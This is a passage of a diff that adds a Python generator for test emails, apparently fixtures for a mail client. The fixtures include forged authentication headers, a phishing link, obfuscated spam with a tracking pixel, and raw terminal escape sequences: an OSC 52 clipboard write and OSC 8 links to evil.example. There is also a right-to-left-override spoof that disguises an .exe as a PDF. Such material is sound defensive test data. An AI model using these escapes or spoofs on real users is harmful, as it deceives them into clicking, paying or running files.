+	spf=fail (mx1.example.org: domain of it-helpdesk@harbor.example.com does not designate 203.0.113.200 as permitted sender) smtp.mailfrom=it-helpdesk@harbor.example.com;
+	dkim=none;
+	dmarc=fail (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from=harbor.example.com
+Received: from harbor.example.com (cpe-203-0-113-200.broadband.isp.test [203.0.113.200])
+	by mx1.example.org (Postfix) with ESMTP id 4VZ9kQ3Lx2z8rT1
+	for <alex@example.org>; Wed, 08 May 2024 09:21:42 +0200
+Authentication-Results: mx1.example.org;
+	dkim=pass header.d=harbor.example.com header.s=hrb2024;
+	spf=pass smtp.mailfrom=harbor.example.com;
+	dmarc=pass header.from=harbor.example.com
+Authentication-Results: mx.harbor.example.com; dkim=pass header.d=harbor.example.com;
+	spf=pass smtp.mailfrom=harbor.example.com; dmarc=pass
+From: Harbor IT Helpdesk <it-helpdesk@harbor.example.com>
+To: alex@example.org
+Subject: Your password expires today - keep your current password
+Date: Wed, 08 May 2024 07:21:40 +0000
+Message-ID: <helpdesk-1715152900.4410@harbor.example.com>
+MIME-Version: 1.0
+Content-Type: multipart/alternative; boundary="b1_helpdesk"
+
+--b1_helpdesk
+Content-Type: text/plain; charset=UTF-8
+
+Your Harbor network password expires today. To keep your current
+password, confirm it here:
+https://harbor.example.com.password-keep.test/keep?u=alex
+
+Harbor IT Helpdesk
+
+--b1_helpdesk
+Content-Type: text/html; charset=UTF-8
+
+<p>Your Harbor network password expires today.</p>
+<p><a href="https://harbor.example.com.password-keep.test/keep?u=alex">Keep my current password</a></p>
+<p>Harbor IT Helpdesk</p>
+
+--b1_helpdesk--
+""", "forged Authentication-Results claiming pass, inserted by the sender below the trust boundary (one even uses our authserv-id); the real one from mx1.example.org says spf=fail, dmarc=fail")
+
+SPAM_TEXT = """\
+L 0 S E  10 kg  B Y  S U M M E R !!!
+
+d0ctors are amazed: this one n@tural p1ll melts fat while you sleep.
+No diet. No gym. 100% s@fe and c e r t i f i e d.
+
+>>> ORDER NOW: only 19.99 / bottle, FREE shipping <<<
+http://slim-fast-rx.test/o/?id=alex
+
+unsubscribe: http://slim-fast-rx.test/u/?id=alex
+"""
+SPAM_HTML = """\
+<html><body>
+<div style="color:#ffffff;font-size:1px;line-height:1px;">meeting agenda quarterly report allotment
+committee minutes invoice attached project plan lunch friday thanks</div>
+<p align="center"><a href="http://slim-fast-rx.test/o/?id=alex"><img src="http://img.slim-fast-rx.test/banner-may.jpg" width="600" height="400" alt="" border="0"></a></p>
+<p align="center" style="font-size:10px;">L<span style="display:none">x</span>ose 10 kg by summer.
+<a href="http://slim-fast-rx.test/u/?id=alex">unsubscribe</a></p>
+<img src="http://img.slim-fast-rx.test/p.gif?id=alex&amp;m=0511" width="1" height="1">
+</body></html>
+"""
+
+add(None, env("2024-05-11 14:02:13 +0000", "info@slim-fast-rx.test", "bulk7.mailer-farm.test", "203.0.113.222",
+              spf="none", dkim="none", dmarc="none header.from=slim-fast-rx.test") + """
+From: "Dr. Anna Weber" <offers@slim-fast-rx.test>
+To: undisclosed-recipients:;
+Subject: L0se 10 kg by summer - d0ctors are amazed
+Date: Sat, 11 May 2024 14:02:13 +0000
+Message-ID: <5f3c.0511.71aa@bulk7.mailer-farm.test>
+X-Mailer: The Bat! (v3.5.25) Professional
+MIME-Version: 1.0
+Content-Type: multipart/alternative; boundary="--slim0511"
+
+----slim0511
+Content-Type: text/plain; charset=us-ascii
+
+%s
+----slim0511
+Content-Type: text/html; charset=us-ascii
+
+%s
+----slim0511--
+""" % (SPAM_TEXT, SPAM_HTML),
+    "spam: misspellings and spaced-out words, an image-only HTML part, invisible white 1px \"ham\" words, display:none inside a word, a 1x1 pixel")
+
+add("", env("2024-05-14 10:47:02 +0100", "kelly.marsh@talentbridge.test", "smtp.talentbridge.test", "192.0.2.240",
+            sub=("[10.10.2.31]", "198.51.100.180")) + """
+From: Kelly Marsh <kelly.marsh@talentbridge.test>
+To: alex@example.org
+Subject: Quick question about your availability
+Date: Tue, 14 May 2024 10:47:02 +0100
+Message-ID: <TB-KM-20240514-1047@talentbridge.test>
+Disposition-Notification-To: Kelly Marsh <kelly.marsh@talentbridge.test>
+Return-Receipt-To: kelly.marsh@talentbridge.test
+X-Confirm-Reading-To: kelly.marsh@talentbridge.test
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+
+Hi Alex,
+
+I came across your profile and think you could be a great fit for a
+senior data engineering role with one of our clients. Would you have
+fifteen minutes for a call this week?
+
+Best regards,
+Kelly Marsh
+TalentBridge Recruitment
+""", "asks for a read receipt three ways (Disposition-Notification-To, Return-Receipt-To, X-Confirm-Reading-To); never answered automatically")
+
+add("S", env("2024-05-19 18:05:55 +0100", "jane.morgan@example.net", "smtp.example.net", "192.0.2.61",
+             sub=("[192.168.0.12]", "198.51.100.140")) + """
+From: %s <jane.morgan@example.net>
+To: Alex Morgan <alex@example.org>
+Subject: %s
+Date: Sun, 19 May 2024 18:05:55 +0100
+Message-ID: <CAJm0rgan.20240519180555.4410@mail.example.net>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+Content-Transfer-Encoding: base64
+
+%s
+""" % (ew("Mum 🌻", "UTF-8", "B"), ew("🎂 Dad's 60th — ideas? 🎉", "UTF-8", "Q"),
+       b64("""Hello love,
+
+Dad turns sixty on the 15th of June 🎂 and I want to do something
+special. Ideas so far:
+
+  🚂 a steam train trip to the coast
+  🍽️ dinner at the place by the harbour
+  👨‍👩‍👧 all of us together for a weekend in the cottage
+
+Your sister votes for the cottage. What do you think? 🇬🇧🇫🇷 (Sophie could
+come over too!)
+
+Love,
+Mum 🌻 xx
+""".encode())),
+    "emoji in From name and Subject (Q-encoded 4-byte UTF-8), ZWJ family sequence, flags and a variation selector in the body (column widths)")
+
+add("S", env("2024-05-22 04:00:17 +0000", "noreply@ci.harbor.example.com", "smtp.harbor.example.com", "192.0.2.33",
+             sub=("ci-runner-3.harbor.example.com", "192.0.2.35")) + """
+From: Harbor Infra Bot <noreply@ci.harbor.example.com>
+To: alex@example.org
+Subject: [harbor-infra] Reminder: the quarterly access review for the data
+ platform (ingest, warehouse, dashboards, the finance export and the
+ legacy reporting cluster that was supposed to be switched off in January)
+ is due on Friday 31 May; please confirm or revoke the 14 accounts listed
+ below before then, or they will be suspended automatically
+Date: Wed, 22 May 2024 04:00:17 +0000
+Message-ID: <access-review.2024Q2.alex@ci.harbor.example.com>
+Auto-Submitted: auto-generated
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+
+Access review 2024-Q2 for alex@example.org
+
+  svc-ingest-prod        keep / revoke
+  svc-ingest-staging     keep / revoke
+  dash-finance-ro        keep / revoke
+  legacy-report-admin    keep / revoke   (cluster scheduled for removal)
+  ... and 10 more: https://access.harbor.example.com/review/2024Q2
+
+This is an automated message.
+""", "a very long subject (about 370 characters) folded over five lines")
+
+add("", env("2024-05-25 12:31:09 +0200", "jordan.lee@example.com", "smtp.example.com", "192.0.2.40",
+            sub=("[10.0.0.5]", "198.51.100.33")) + """
+From: Jordan Lee <jordan.lee@example.com>
+To: Alex Morgan <alex@example.org>
+Date: Sat, 25 May 2024 12:31:09 +0200
+Message-ID: <6A1D2F33-0C8E-4B7A-9E25-3C1F0D2B8A77@example.com>
+X-Mailer: iPhone Mail (21E236)
+MIME-Version: 1.0
+Content-Type: text/plain; charset=us-ascii
+Content-Transfer-Encoding: 7bit
+
+Key is under the blue pot. Back around six, I'll bring bread.
+x
+""", "no Subject header at all; seen but unread")
+
+add("S", """Return-Path: <root@nas.home.test>
+Delivered-To: alex@example.org
+Received: from mx1.example.org
+	by imap.example.org with LMTP
+	id wQ7bK1uUVWZ4BQAAx7kq8g
+	(envelope-from <root@nas.home.test>)
+	for <alex@example.org>; Tue, 28 May 2024 03:30:02 +0200
+Authentication-Results: mx1.example.org;
+	spf=none smtp.mailfrom=nas.home.test;
+	dkim=none
+Received: from nas.home.test (cpe-203-0-113-8.broadband.isp.test [203.0.113.8])
+	by mx1.example.org (Postfix) with ESMTPS id 4Vp3Zt1Hkqz9sV2
+	for <alex@example.org>; Tue, 28 May 2024 03:30:01 +0200
+From: Cron Daemon <root@nas.home.test>
+To: alex@example.org
+Subject: Nightly backup report for nas.home.test
+Message-ID: <20240528013000.B9A1E4C0123@nas.home.test>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+
+backup: 3 snapshots kept, 1 pruned
+backup: photos    41.2 GiB  (+0.3 GiB)
+backup: documents  2.1 GiB  (+0.0 GiB)
+backup: finished in 14m02s, no errors
+""", "no Date header (only the Received dates say when it arrived)", when="2024-05-28 03:30:00 +0200")
+
+add("S", env("2024-05-30 16:44:30 +0200", "scanner@harbor.example.com", "smtp.harbor.example.com", "192.0.2.33",
+             sub=("MFP-3F", "10.1.9.30")) + """
+From: Office Scanner MFP-3F <scanner@harbor.example.com>
+To: alex@example.org
+Subject: Scanned document from MFP-3F
+Date: Thu, 31 Feb 2024 25:61:00 +9900
+Message-ID: <MFP-3F.0042.20240530@harbor.example.com>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="MFP3F_0042"
+
+--MFP3F_0042
+Content-Type: text/plain; charset=us-ascii
+
+Please open the attached document. It was scanned and sent to you using
+a multifunction printer.
+
+Number of pages: 1
+Device: MFP-3F (3rd floor, east)
+
+--MFP3F_0042
+Content-Type: application/pdf; name="scan_0042.pdf"
+Content-Disposition: attachment; filename="scan_0042.pdf"
+Content-Transfer-Encoding: base64
+
+%s
+--MFP3F_0042--
+""" % b64(pdf("Scan 0042", ["Expense receipt: team lunch, 2 April 2024, 86.40 EUR.", "Approved: P. Natarajan"])),
+    "an impossible Date (31 Feb, 25:61, zone +9900) from an office scanner; a real PDF attachment", when="2024-05-30 16:44:30 +0200")
+
+OSC52 = base64.b64encode(b"echo this text was put on your clipboard by an email subject").decode()
+
+add(None, env("2024-06-03 07:58:20 +0000", "billing@invoices-online.test", "mail.invoices-online.test", "203.0.113.140",
+              spf="pass", dkim="none", dmarc="none header.from=invoices-online.test") + """
+From: Accounts Receivable <billing@invoices-online.test>
+To: alex@example.org
+Subject: Invoice 8812 \x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;%s\x07\x1b]8;;https://evil.example/pay\x1b\\PAY NOW\x1b]8;;\x1b\\ \x1b[5;31mOVERDUE\x1b[0m
+Date: Mon, 03 Jun 2024 07:58:20 +0000
+Message-ID: <inv8812.1717401500@invoices-online.test>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+
+Invoice 8812 is overdue. Please pay today.
+
+(The subject of this message holds raw terminal escape sequences: clear
+screen and home, set the window title to "pwned", write a command to
+the clipboard with OSC 52, an OSC 8 hyperlink to evil.example labelled
+PAY NOW, and blinking red text. A safe client shows them as visible
+escapes and runs none of them.)
+""" % OSC52, "raw ESC bytes in the Subject: CSI 2J clear screen, OSC 0 title \"pwned\", OSC 52 clipboard write, OSC 8 hyperlink, blinking red SGR")
+
+ESC_SUBJECT = "Shared document: Q2 plan \x1b]8;;https://evil.example/login\x1b\\(open)\x1b]8;;\x1b\\\x1b[8m hidden\x1b[0m"
+ESC_BODY = """\
+Hello Alex,
+
+Priya shared "Q2 plan" with you.\x1b[2K\x1b[1G
+
+\x1b]8;;https://evil.example/login\x1b\\Open the document in Harbor Docs\x1b]8;;\x1b\\
+
+\x1b[999;1H\x1b[42;30m wary: good signature from Priya Natarajan (fully trusted) \x1b[0m\x1b[H
+Status lines drawn from inside a message are lies.
+A C1 control sequence introducer, encoded as UTF-8: \u009b31mred\u009b0m
+A device control string: \x1bP$q"p\x1b\\ and a terminal query: \x1b[6n \x1b]10;?\x07
+Backspaces that overstrike: safe\x08\x08\x08\x08evil and a bare CR:\rOVERWRITTEN
+
+Harbor Docs
+"""
+
+add(None, env("2024-06-04 13:37:00 +0000", "share@docs-harbor.test", "mail.docs-harbor.test", "203.0.113.141",
+              spf="pass", dkim="none", dmarc="none header.from=docs-harbor.test") + """
+From: "Priya Natarajan (via Harbor Docs)" <share@docs-harbor.test>
+To: alex@example.org
+Subject: %s
+Date: Tue, 04 Jun 2024 13:37:00 +0000
+Message-ID: <share.q2plan.1717508220@docs-harbor.test>
+MIME-Version: 1.0
+Content-Type: text/plain; charset=UTF-8
+Content-Transfer-Encoding: 8bit
+
+%s""" % (ew(ESC_SUBJECT, "UTF-8", "B"), ESC_BODY),
+    "escapes that appear only after decoding: an OSC 8 link and concealed text inside a B-encoded Subject; the body holds OSC 8, a fake status line at the bottom row, C1 CSI (U+009B), DCS, terminal queries, backspaces and a bare CR")
+
+RLO_NAME = "\u202e" + "it-helpdesk@harbor.example.com"[::-1]
+
+add(None, env("2024-06-05 09:12:33 +0000", "helpdesk@harbour-it.test", "smtp.harbour-it.test", "203.0.113.150",
+              spf="pass", dkim="none", dmarc="none header.from=harbour-it.test") + """
+From: %s <helpdesk@harbour-it.test>
+To: alex@example.org
+Subject: %s
+Date: Wed, 05 Jun 2024 09:12:33 +0000
+Message-ID: <payroll-0605.3391@harbour-it.test>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary="bidi0605"
+
+--bidi0605
+Content-Type: text/plain; charset=UTF-8
+Content-Transfer-Encoding: 8bit
+
+Hello,
+
+your June pay\u200bslip is attached. Please open it and confirm the
+new bank details by Friday.
+
+Payroll
+
+--bidi0605
+Content-Type: application/pdf;
+	%s
+Content-Disposition: attachment;
+	%s
+Content-Transfer-Encoding: base64
+
+%s
+--bidi0605--
+""" % (ew(RLO_NAME, "UTF-8", "Q"), ew("Pay\u200broll\u200c update \u2014 action\u2060 needed", "UTF-8", "Q"),
+       rfc2231("name", "payslip-june-\u202efdp.exe"), rfc2231("filename", "payslip-june-\u202efdp.exe"),
+       b64(pe_stub("a harmless stand-in whose name shows as payslip-june-exe.pdf"))),
+    "bidi: a From display name with U+202E that renders as it-helpdesk@harbor.example.com; zero-width characters in the Subject and body; attachment named payslip-june-<U+202E>fdp.exe, which displays as ...exe.pdf")
 
 # ======================================================================
 # write the Maildir and the table in README
